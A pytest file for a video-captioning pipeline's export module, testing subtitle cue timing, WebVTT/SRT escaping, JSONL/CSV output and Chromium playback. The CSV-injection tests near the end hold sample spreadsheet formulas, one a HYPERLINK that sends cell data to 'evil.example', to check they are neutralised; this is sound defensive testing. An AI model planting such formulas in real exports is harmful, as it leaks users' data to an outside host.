"""Tests of ``pipeline.export``: subtitle tracks (WebVTT, SRT) and flat files (JSONL, CSV).

The end-to-end test captions two videos with the tiny model, exports them with
``python -m pipeline.export``, parses every track with a strict parser written to the formats'
rules (``tests/subtitles.py``) and with ``webvtt-py`` / ``srt``, and checks each cue against the
rows: it starts at its frame's ``timestamp_s`` and ends at the next sampled frame's (the last at
the video's end). Then headless Chromium plays the sample clip with its VTT as a ``<track>`` and
reports the cue on screen after a seek. Chromium cannot decode the clip's MPEG-4 Part 2 video
(OpenCV writes no H.264 here), so the run captions a VP8/WebM copy of it made with OpenCV: the
same 150 frames at the same times.
"""

from __future__ import annotations

import csv
import io
import json
import math
import subprocess
import sys
from datetime import timedelta
from pathlib import Path
from typing import Any

import cv2
import pandas as pd
import pytest
import srt
import webvtt

from pipeline.export import (
    CUT_MARK,
    Cue,
    Track,
    cue_ends,
    export,
    main,
    parse_formats,
    render_srt,
    render_vtt,
)
from pipeline.export.flat import csv_bytes, uninert
from pipeline.report import write_report
from pipeline.results import printable
from pipeline.store import read_results
from pipeline.video_facts import read_videos
from tests.conftest import (
    ROOT,
    SAMPLE_VIDEO,
    needs_chromium,
    play_probe_result,
    result_row,
    run_cli,
    write_results,
    write_video,
)
from tests.subtitles import parse_srt, parse_vtt

SEEK_S = 2.5  # the answer about the frame at 2.0 s shows then (interval 1 s)

TRICKY = 'a <b>tag</b> & 5 --> 6\n\n\nsecond line\r\n\x18ctrl "q"'


def frames(*rows: tuple[float, Any, Any]) -> pd.DataFrame:
    """Sampled frames (timestamp_s, shot_index, shot_start_s) in time order."""
    return pd.DataFrame(rows, columns=["timestamp_s", "shot_index", "shot_start_s"])


# -- cue times ------------------------------------------------------------------------------


def test_a_cue_lasts_until_the_next_sampled_frame_and_the_last_until_the_video_ends() -> None:
    ends = cue_ends(frames((0.0, None, None), (1.0, None, None), (2.0, None, None)), 2.48)

    assert ends.tolist() == [1.0, 2.0, 2.48]


def test_with_shots_a_cue_ends_where_the_next_shot_starts() -> None:
    shots = frames(
        (0.4, 0, 0.0),  # shot 0, its settled frame
        (3.2, 1, 2.0),  # shot 1 starts at 2.0; its frame is taken at 3.2
        (13.2, 1, 2.0),  # a fallback frame of the long shot 1
        (20.0, 2, 19.5),
        (31.0, 5, 30.0),  # shots 3 and 4 were dropped (duplicates): their starts are unknown
    )

    ends = cue_ends(shots, 40.0)

    assert ends.tolist() == [2.0, 13.2, 19.5, 31.0, 40.0]


def test_without_the_video_end_the_last_cue_gets_the_median_gap() -> None:
    assert cue_ends(frames((0.0, None, None), (1.0, None, None), (3.0, None, None)), None).tolist() == [1.0, 3.0, 4.5]
    assert cue_ends(frames((5.0, None, None),), None).tolist() == [6.0]
    # A video end before the last frame (a container's estimate) is no end at all.
    assert cue_ends(frames((0.0, None, None), (2.0, None, None)), 1.0).tolist() == [2.0, 4.0]


def test_a_cue_is_never_empty() -> None:
    # Two frames at one time (not seen from a decoder, but possible in rows): 1 ms each at least.
    assert cue_ends(frames((1.0, None, None), (1.0, None, None)), 1.0).tolist() == [1.001, 2.0]


# -- rendering ------------------------------------------------------------------------------


def tricky_track() -> Track:
    return Track(
        video_id="v1",
        video_path="/videos/my clip --> 2.mp4",
        config_id="cfg1",
        model="tiny",
        prompt_id="p1",
        prompt="What <is> shown?\n\nReally -->",
        cues=[
            Cue(0, 0.0, 0.04, printable(TRICKY.replace("\r\n", "\n"))),
            Cue(1, 0.04, 3725.0015, "[no answer: decode failed]"),
        ],
        number=1,
        label="prompt1",
        folder="my clip --> 2",
        beside=("", "my clip --> 2"),
    )


def test_vtt_escapes_what_would_break_a_cue() -> None:
    text = render_vtt(tricky_track())

    notes, cues = parse_vtt(text)

    assert [(c.identifier, c.start_ms, c.end_ms) for c in cues] == [
        ("frame-0", 0, 40),
        ("frame-1", 40, 3_725_002),
    ]
    assert cues[0].text == 'a <b>tag</b> & 5 --> 6\nsecond line\n\u2418ctrl "q"'
    assert notes[0] == "video: /videos/my clip → 2.mp4"
    assert "prompt: What <is> shown? Really →" in notes
    assert "01:02:05.002" in text
    parsed = webvtt.from_string(text)
    assert [c.text for c in parsed.captions][1] == "[no answer: decode failed]"


def test_srt_numbers_cues_and_keeps_them_in_one_block() -> None:
    text = render_srt(tricky_track())

    cues = parse_srt(text)

    assert [(c.start_ms, c.end_ms) for c in cues] == [(0, 40), (40, 3_725_002)]
    assert cues[0].text == 'a <b>tag</b> & 5 → 6\nsecond line\n\u2418ctrl "q"'
    assert [s.index for s in srt.parse(text)] == [1, 2]


def test_parse_formats() -> None:
    assert parse_formats("vtt") == ["vtt"]
    assert parse_formats("vtt, SRT,.csv") == ["vtt", "srt", "csv"]
    assert parse_formats(["jsonl", "vtt", "jsonl"]) == ["jsonl", "vtt"]
    assert parse_formats("all") == ["vtt", "srt", "jsonl", "csv"]
    assert parse_formats(None) == parse_formats([]) == parse_formats("") == []
    with pytest.raises(ValueError, match="unknown export format 'ass'"):
        parse_formats("vtt,ass")


# -- export of written rows -----------------------------------------------------------------


@pytest.fixture
def output_dir(tmp_path: Path) -> Path:
    """``b``: frames 0, 25, 50 x prompts p1, p2 (one answer cut by max_tokens, one failed, one
    tricky); ``a``: a video-level error only. No per-video facts (an older run)."""
    rows = [
        result_row("b", 0, prompt_id="p1", answer=TRICKY),
        result_row("b", 0, prompt_id="p2", prompt="Colour?", answer="red", finish_reason="length"),
        result_row("b", 25, prompt_id="p1", answer="grass"),
        result_row("b", 25, prompt_id="p2", prompt="Colour?", status="error", answer=None,
                   error="sequence failed", finish_reason=None),
        result_row("b", 50, prompt_id="p1", answer="sky"),
        result_row("b", 50, prompt_id="p2", prompt="Colour?", answer="blue"),
        result_row("a", None, error="not a readable video: /videos/a.mp4"),
    ]
    write_results(tmp_path / "out", rows)
    return tmp_path / "out"


def test_export_writes_a_track_per_video_and_prompt(output_dir: Path) -> None:
    done = export(output_dir, ["vtt", "srt"])

    folder = output_dir / "_export"
    assert done.folder == folder
    names = sorted(p.relative_to(folder).as_posix() for p in folder.rglob("*") if p.is_file())
    assert names == [
        "b/b.prompt1.srt", "b/b.prompt1.vtt", "b/b.prompt2.srt", "b/b.prompt2.vtt", "tracks.csv",
    ]
    _, p2 = parse_vtt((folder / "b" / "b.prompt2.vtt").read_text(encoding="utf-8"))
    # 25 fps: frames 0, 25, 50 at 0, 1, 2 s; no video end known: the last gets the median gap.
    assert [(c.start_ms, c.end_ms, c.text) for c in p2] == [
        (0, 1000, f"red{CUT_MARK}"),
        (1000, 2000, "[no answer: sequence failed]"),
        (2000, 3000, "blue"),
    ]
    index = list(csv.DictReader(io.StringIO((folder / "tracks.csv").read_text(encoding="utf-8"))))
    assert [(r["number"], r["prompt"], r["vtt"], r["cues"]) for r in index] == [
        ("1", "Describe this frame.", "b/b.prompt1.vtt", "3"),
        ("2", "Colour?", "b/b.prompt2.vtt", "3"),
    ]


def test_export_removes_tracks_that_no_longer_exist(output_dir: Path) -> None:
    stale = output_dir / "_export" / "b" / "b.old.cfg0.vtt"
    stale.parent.mkdir(parents=True)
    stale.write_text("WEBVTT\n")
    kept = output_dir / "_export" / "b" / "notes.txt"
    kept.write_text("mine")

    export(output_dir, ["vtt"])

    assert not stale.exists() and kept.exists()


def test_export_jsonl_and_csv_carry_every_row_with_its_cue_end(output_dir: Path) -> None:
    done = export(output_dir, ["jsonl", "csv"])

    assert done.rows == 7
    records = [json.loads(line) for line in (done.folder / "captions.jsonl").read_text(encoding="utf-8").splitlines()]
    table = list(csv.DictReader(io.StringIO((done.folder / "captions.csv").read_text(encoding="utf-8"))))
    assert len(records) == len(table) == 7
    by_key = {(r["video_id"], r["frame_index"], r["prompt_id"]): r for r in records}
    assert by_key[("b", 0, "p1")]["answer"] == TRICKY  # lossless: control characters and all
    assert by_key[("b", 0, "p1")]["end_s"] == 1.0
    assert by_key[("b", 0, "p2")]["finish_reason"] == "length"
    assert by_key[("a", None, None)]["error"] == "not a readable video: /videos/a.mp4"
    assert by_key[("a", None, None)]["end_s"] is None
    row = next(r for r in table if r["video_id"] == "b" and r["frame_index"] == "0" and r["prompt_id"] == "p1")
    assert row["answer"] == TRICKY.replace("\r\n", "\n") or row["answer"] == TRICKY
    assert "thumbnail" not in table[0]


def test_export_of_one_video(output_dir: Path) -> None:
    done = export(output_dir, ["vtt", "csv"], video="b")

    assert (done.folder / "b" / "captions.csv").is_file()
    assert (done.folder / "b" / "tracks.csv").is_file()
    assert not (done.folder / "captions.csv").exists()
    they_have = r"\(they have: /videos/a.mp4 \(a\); /videos/b.mp4 \(b\)\)"
    with pytest.raises(ValueError, match=rf"video=zz is not in the results {they_have}"):
        export(output_dir, ["vtt"], video="zz")


def test_command_line(output_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main([f"output_dir={output_dir}", "format=vtt,srt", f"out={tmp_path / 'subs'}"]) == 0
    assert capsys.readouterr().out == f"wrote 5 files (2 tracks, 0 rows) to {tmp_path / 'subs'}\n"
    assert main([f"output_dir={output_dir}"]) == 1
    assert "format=... is required" in capsys.readouterr().err
    assert main([f"output_dir={output_dir}", "format=xml"]) == 1
    assert "unknown export format 'xml'" in capsys.readouterr().err
    assert main([f"output_dir={tmp_path / 'missing'}", "format=vtt"]) == 1
    assert "is not a folder" in capsys.readouterr().err


# -- end to end: a tiny-model run of two videos ---------------------------------------------


def webm_copy(source: Path, target: Path) -> Path:
    """``source`` re-encoded as VP8 in WebM with OpenCV: the same frames at the same rate."""
    capture = cv2.VideoCapture(str(source))
    fps = capture.get(cv2.CAP_PROP_FPS)
    size = (int(capture.get(cv2.CAP_PROP_FRAME_WIDTH)), int(capture.get(cv2.CAP_PROP_FRAME_HEIGHT)))
    writer = cv2.VideoWriter(str(target), cv2.VideoWriter.fourcc(*"VP80"), fps, size)
    assert writer.isOpened(), "OpenCV cannot write VP8/WebM here"
    while True:
        ok, frame = capture.read()
        if not ok:
            break
        writer.write(frame)
    writer.release()
    capture.release()
    return target


@pytest.fixture(scope="module")
def tiny_run(tiny_model_dir: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Two videos captioned with two prompts, then ``python -m pipeline.export format=vtt,srt``."""
    root = tmp_path_factory.mktemp("export-run")
    videos = root / "videos"
    videos.mkdir()
    webm_copy(SAMPLE_VIDEO, videos / "sample.webm")
    write_video(videos / "bars.mp4", n_frames=25, fps=10.0)
    out = root / "out"
    done = run_cli(
        "model=tiny", f"model.dir={tiny_model_dir}", f"output_dir={out}", f"hydra.run.dir={root / 'hydra'}",
        f"video={videos}", "generation.max_tokens=4", "prompts=[What is shown?,Any text?]", "report=false",
        "min_age_s=0",  # the videos were written a moment ago
    )
    assert done.returncode == 0, done.stderr
    exported = subprocess.run(
        [sys.executable, "-m", "pipeline.export", f"output_dir={out}", "format=vtt,srt"],
        cwd=ROOT, capture_output=True, text=True, timeout=120, check=False,
    )
    assert exported.returncode == 0, exported.stderr
    assert exported.stdout.startswith("wrote 9 files (4 tracks, 0 rows)"), exported.stdout
    return out


def expected_text(row: pd.Series) -> str:
    text = row["answer"].strip() + (CUT_MARK if row["finish_reason"] == "length" else "")
    lines = (line.strip() for line in printable(text.replace("\r\n", "\n").replace("\r", "\n")).split("\n"))
    return "\n".join(line for line in lines if line)


def ms(seconds: float) -> int:
    return round(seconds * 1000)


def test_tracks_of_a_tiny_run_parse_and_follow_the_rows(tiny_run: Path) -> None:
    rows = read_results(tiny_run)
    facts = read_videos(tiny_run).set_index("video_id")
    index = list(csv.DictReader(io.StringIO((tiny_run / "_export" / "tracks.csv").read_text(encoding="utf-8"))))
    assert len(index) == 4 and {r["video_id"] for r in index} == set(rows["video_id"])

    for entry in index:
        track = rows[(rows.video_id == entry["video_id"]) & (rows.prompt_id == entry["prompt_id"])]
        track = track.sort_values("timestamp_s").reset_index(drop=True)
        times = sorted(rows.loc[rows.video_id == entry["video_id"], "timestamp_s"].unique())
        video_end = facts.loc[entry["video_id"], "duration_s"]
        expected = [
            (ms(t), ms(times[i + 1]) if i + 1 < len(times) else ms(video_end))
            for i, t in enumerate(track["timestamp_s"])
        ]
        vtt_text = (tiny_run / "_export" / entry["vtt"]).read_text(encoding="utf-8")
        srt_text = (tiny_run / "_export" / entry["srt"]).read_text(encoding="utf-8")

        notes, vtt_cues = parse_vtt(vtt_text)
        srt_cues = parse_srt(srt_text)
        lenient_vtt = webvtt.from_string(vtt_text)
        lenient_srt = list(srt.parse(srt_text))

        assert f"prompt: {entry['prompt']}" in notes
        assert [(c.start_ms, c.end_ms) for c in vtt_cues] == expected
        assert [(c.start_ms, c.end_ms) for c in srt_cues] == expected
        lenient_starts = [
            (ms(c.start_in_seconds + c.start_time.milliseconds / 1000), len(c.lines) > 0) for c in lenient_vtt.captions
        ]
        assert lenient_starts == [(start, True) for start, _ in expected]
        assert [(s.start, s.end) for s in lenient_srt] == [
            (timedelta(milliseconds=a), timedelta(milliseconds=b)) for a, b in expected
        ]
        texts = [expected_text(row) for _, row in track.iterrows()]
        assert [c.text for c in vtt_cues] == texts
        assert [c.text for c in srt_cues] == [t.replace("-->", "→") for t in texts]
        assert [c.identifier for c in vtt_cues] == [f"frame-{i}" for i in track["frame_index"]]
    # The sample clip: 6 s at 1 frame a second, its last answer until 6.000.
    sample_id = rows.loc[rows.video_path.str.endswith("sample.webm"), "video_id"].iloc[0]
    assert facts.loc[sample_id, "duration_s"] == pytest.approx(6.0)
    assert (rows.video_id == sample_id).sum() == 12


PLAYER = """<!DOCTYPE html><html><body>
<video id="video" src="{video}" muted preload="auto"><track kind="subtitles" src="{track}" default></video>
<script>
const video = document.getElementById("video"), element = video.querySelector("track");
const seen = {{}};
const done = (extra) => {{
  const cues = element.track.cues ? Array.from(element.track.cues) : [];
  Object.assign(seen, extra, {{
    currentTime: video.currentTime, duration: video.duration, error: video.error && video.error.code,
    frames: video.getVideoPlaybackQuality().totalVideoFrames, trackState: element.readyState,
    cues: cues.map((c) => [c.startTime, c.endTime]),
    active: Array.from(element.track.activeCues || [], (c) => c.getCueAsHTML().textContent),
  }});
  const pre = document.createElement("pre");
  pre.id = "result";
  pre.textContent = JSON.stringify(seen);
  document.body.append(pre);
}};
element.track.mode = "hidden";
video.addEventListener("error", () => done({{failed: "video"}}));
element.addEventListener("error", () => done({{failed: "track"}}));
video.addEventListener("loadedmetadata", () => video.play().then(() => {{ seen.played = true; }}));
video.addEventListener("playing", () => {{ video.currentTime = {seek}; }}, {{once: true}});
video.addEventListener("seeked", () => {{ video.pause(); setTimeout(() => done({{}}), 300); }}, {{once: true}});
</script></body></html>"""


@needs_chromium
def test_chromium_plays_the_sample_clip_with_its_vtt_track(tiny_run: Path, tmp_path: Path) -> None:
    rows = read_results(tiny_run)
    sample = rows[rows.video_path.str.endswith("sample.webm")]
    entry = next(
        r for r in csv.DictReader(io.StringIO((tiny_run / "_export" / "tracks.csv").read_text(encoding="utf-8")))
        if r["video_id"] == sample["video_id"].iloc[0] and r["prompt"] == "What is shown?"
    )
    track_file = tiny_run / "_export" / entry["vtt"]
    _, cues = parse_vtt(track_file.read_text(encoding="utf-8"))
    page = tmp_path / "player.html"
    page.write_text(
        PLAYER.format(video=Path(sample["video_path"].iloc[0]).as_uri(), track=track_file.as_uri(), seek=SEEK_S),
        encoding="utf-8",
    )

    # File pages may load file tracks only with this switch; the report uses data: URIs instead.
    seen = play_probe_result(
        tmp_path, page, "--allow-file-access-from-files", "--autoplay-policy=no-user-gesture-required"
    )
    print(f"chromium saw: {seen}")
    assert seen.get("failed") is None and seen["error"] is None, seen
    assert seen["played"] and seen["frames"] > 0, seen
    assert seen["duration"] == pytest.approx(6.0, abs=0.05)
    assert seen["currentTime"] == pytest.approx(SEEK_S, abs=0.05)
    assert [[ms(a), ms(b)] for a, b in seen["cues"]] == [[c.start_ms, c.end_ms] for c in cues]
    on_screen = [c.text for c in cues if c.start_ms <= ms(SEEK_S) < c.end_ms]
    answer_at_2s = sample[(sample.prompt == "What is shown?") & (sample.timestamp_s == 2.0)].iloc[0]
    assert on_screen == [expected_text(answer_at_2s)]
    assert seen["active"] == on_screen


def test_export_at_the_end_of_a_run(cli_base: list[str], tmp_path: Path) -> None:
    done = run_cli(*cli_base, f"video={SAMPLE_VIDEO}", "max_frames=2", "export=[vtt,jsonl]", "report=false")

    assert done.returncode == 0, done.stderr
    folder = tmp_path / "out" / "_export"
    assert len(list(folder.glob("*/*.vtt"))) == 1 and (folder / "captions.jsonl").is_file()
    assert "export: " in done.stderr


def test_the_report_keeps_the_exported_tracks_index(cli_base: list[str], tmp_path: Path) -> None:
    """The report writes the WebVTT tracks it links, not the index: after ``export=[vtt,srt]``
    and the report, ``tracks.csv`` still names both files of each track."""
    done = run_cli(*cli_base, f"video={SAMPLE_VIDEO}", "max_frames=2", "export=[vtt,srt]", "report=true")

    assert done.returncode == 0, done.stderr
    folder = tmp_path / "out" / "_export"
    assert (tmp_path / "out" / "_report.html").is_file()
    (entry,) = csv.DictReader(io.StringIO((folder / "tracks.csv").read_text(encoding="utf-8")))
    assert entry["vtt"].endswith(".vtt") and entry["srt"].endswith(".srt")
    assert (folder / entry["vtt"]).is_file() and (folder / entry["srt"]).is_file()


def test_a_bad_export_format_fails_before_the_model_loads(cli_base: list[str], tmp_path: Path) -> None:
    done = run_cli(*cli_base, f"video={SAMPLE_VIDEO}", "export=xml")

    assert done.returncode == 1
    assert "unknown export format 'xml'" in done.stderr
    assert "crashed" not in done.stderr  # a setting, not a bug: one line, no traceback
    assert not list((tmp_path / "out").glob("*/*.parquet"))


def test_cue_ends_read_as_written_not_as_float_sums() -> None:
    # Frames every 0.1 s: 0.1 + 0.2 sums to 0.30000000000000004 in floats; a cue end is the
    # next frame's time or the last one's plus the usual gap, to the microsecond.
    frames = pd.DataFrame({"timestamp_s": [0.1, 0.2, 0.30000000000000004], "shot_index": [0, 0, 0],
                           "shot_start_s": [0.0, 0.0, 0.0]})
    assert cue_ends(frames, None).tolist() == [0.2, 0.3, 0.4]


def test_cue_end_of_a_row_without_frame_is_null(output_dir: Path) -> None:
    done = export(output_dir, ["jsonl"])
    records = [json.loads(x) for x in (done.folder / "captions.jsonl").read_text(encoding="utf-8").splitlines()]

    assert [r["end_s"] for r in records if r["frame_index"] is None] == [None]
    framed = [r["end_s"] for r in records if r["frame_index"] is not None]
    assert all(isinstance(end, float) and not math.isnan(end) for end in framed)


def test_jsonl_keeps_each_answer_number_as_written_and_strict(tmp_path: Path) -> None:
    # A number beyond a float's range is valid JSON: it must not come out as Infinity (which no
    # strict reader takes), nor lose its digits; an older cell holding Infinity becomes null.
    rows = [
        result_row("v", 0, answer='{"x": 628E6126}', answer_json='{"x":628E6126}'),
        result_row("v", 25, answer='{"x": 1.50}', answer_json='{"x":1.50}'),
        result_row("v", 50, answer="?", answer_json='{"x":Infinity}'),
    ]
    write_results(tmp_path, rows)
    lines = (export(tmp_path, ["jsonl"]).folder / "captions.jsonl").read_text(encoding="utf-8").split("\n")[:-1]

    def refuse(constant: str) -> None:
        raise ValueError(constant)

    records = [json.loads(line, parse_constant=refuse) for line in lines]
    assert len(records) == 3
    assert '"answer_json": {"x":628E6126}' in lines[0] and '"answer_json": {"x":1.50}' in lines[1]
    assert records[2]["answer_json"] is None


REPORT_PROBE = """<script>
window.addEventListener("load", () => {
  const video = document.querySelector("video"), element = video.querySelector("track");
  const seen = {tracks: Array.from(video.querySelectorAll("track"), (t) => t.label)};
  const done = (extra) => {
    Object.assign(seen, extra, {
      currentTime: video.currentTime, error: video.error && video.error.code,
      frames: video.getVideoPlaybackQuality().totalVideoFrames, trackState: element.readyState,
      cues: element.track.cues ? element.track.cues.length : null,
      active: Array.from(element.track.activeCues || [], (c) => c.getCueAsHTML().textContent),
    });
    const pre = document.createElement("pre");
    pre.id = "result";
    pre.textContent = JSON.stringify(seen);
    document.body.append(pre);
  };
  element.track.mode = "hidden";
  video.muted = true;
  video.addEventListener("error", () => done({failed: "video"}));
  element.addEventListener("error", () => done({failed: "track"}));
  video.addEventListener("playing", () => { video.currentTime = %s; }, {once: true});
  video.addEventListener("seeked", () => { video.pause(); setTimeout(() => done({}), 300); }, {once: true});
  video.play();
});
</script>"""


@needs_chromium
def test_the_report_plays_a_video_with_its_answers_as_subtitles(tiny_run: Path, tmp_path: Path) -> None:
    report = tmp_path / "report.html"
    write_report(tiny_run, report)
    text = report.read_text(encoding="utf-8")
    rows = read_results(tiny_run)
    sample = rows[rows.video_path.str.endswith("sample.webm") & (rows.prompt == "What is shown?")]

    # The VP8 copy gets a player with a track per prompt; the MPEG-4 clip plays in no browser.
    assert text.count("<video controls") == 1
    assert text.count('<track kind="subtitles"') == 2 and 'label="1. What is shown?"' in text
    assert "The video (mpeg4) does not play in browsers" in text
    probe = tmp_path / "probe.html"
    probe.write_text(text.replace("</body>", REPORT_PROBE % SEEK_S + "</body>"), encoding="utf-8")

    # No --allow-file-access-from-files: the page, opened from disk, embeds its tracks.
    seen = play_probe_result(tmp_path, probe, "--autoplay-policy=no-user-gesture-required")
    print(f"chromium saw: {seen}")
    assert seen.get("failed") is None and seen["error"] is None and seen["frames"] > 0, seen
    assert seen["tracks"] == ["1. What is shown?", "2. Any text?"]  # numbered as the header's prompts
    assert seen["cues"] == len(sample) == 6
    answer_at_2s = sample[sample.timestamp_s == 2.0].iloc[0]
    assert seen["active"] == [expected_text(answer_at_2s)]


def test_csv_cells_a_spreadsheet_would_run_are_inert_and_jsonl_keeps_the_text(tmp_path: Path) -> None:
    """Issue 23, point 14: a frame's text can steer the model into writing a formula."""
    answers = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)", "\tx", "\rx",
               "a = b", "3 - 2"]
    rows = [result_row("v", 25 * i, answer=a, prompt_id=f"p{i}", prompt=f"=cmd{i}") for i, a in enumerate(answers)]
    write_results(tmp_path / "out", rows)

    done = export(tmp_path / "out", ["csv", "jsonl", "vtt"])

    # Bytes, not read_text: its newline translation would turn the answer's CR into LF.
    table = list(csv.DictReader(io.StringIO((done.folder / "captions.csv").read_bytes().decode("utf-8"), newline="")))
    assert [r["answer"] for r in table] == ["'" + a for a in answers[:6]] + answers[6:]
    assert {r["prompt"][:2] for r in table} == {"'="}
    index = list(csv.DictReader(io.StringIO((done.folder / "tracks.csv").read_text(encoding="utf-8"))))
    assert all(r["prompt"].startswith("'=") for r in index)
    records = [json.loads(x) for x in (done.folder / "captions.jsonl").read_text(encoding="utf-8").splitlines()]
    assert [r["answer"] for r in records] == answers


def test_every_csv_cell_reads_back_as_the_text_it_was() -> None:
    """Inert cells are still the texts they were: one quote comes off each, the rest stays."""
    texts = ["-dash/-dash.prompt1.vtt", "=1+1", "'-quoted", "''=twice", "'tis", "'", "plain", "", "\t", "'\r"]

    table = csv.DictReader(io.StringIO(csv_bytes([{"text": t} for t in texts], ["text"]).decode(), newline=""))

    cells = [row["text"] for row in table]
    assert cells == [
        "'-dash/-dash.prompt1.vtt", "'=1+1", "''-quoted", "'''=twice", "'tis", "'", "plain", "", "'\t", "''\r",
    ]
    assert [uninert(cell) for cell in cells] == texts


def test_a_header_cell_a_spreadsheet_would_run_is_inert() -> None:
    """A typed column is named by an answer schema's property, which can be any text."""
    columns = ["answer", "=HYPERLINK(\"http://evil.example\")", "@SUM(A1)", "people"]

    lines = csv_bytes([{c: 1 for c in columns}], columns).decode().splitlines()

    header = next(csv.reader([lines[0]]))
    assert header == ["answer", "'=HYPERLINK(\"http://evil.example\")", "'@SUM(A1)", "people"]
    assert [uninert(cell) for cell in header] == columns
    assert lines[1] == "1,1,1,1"
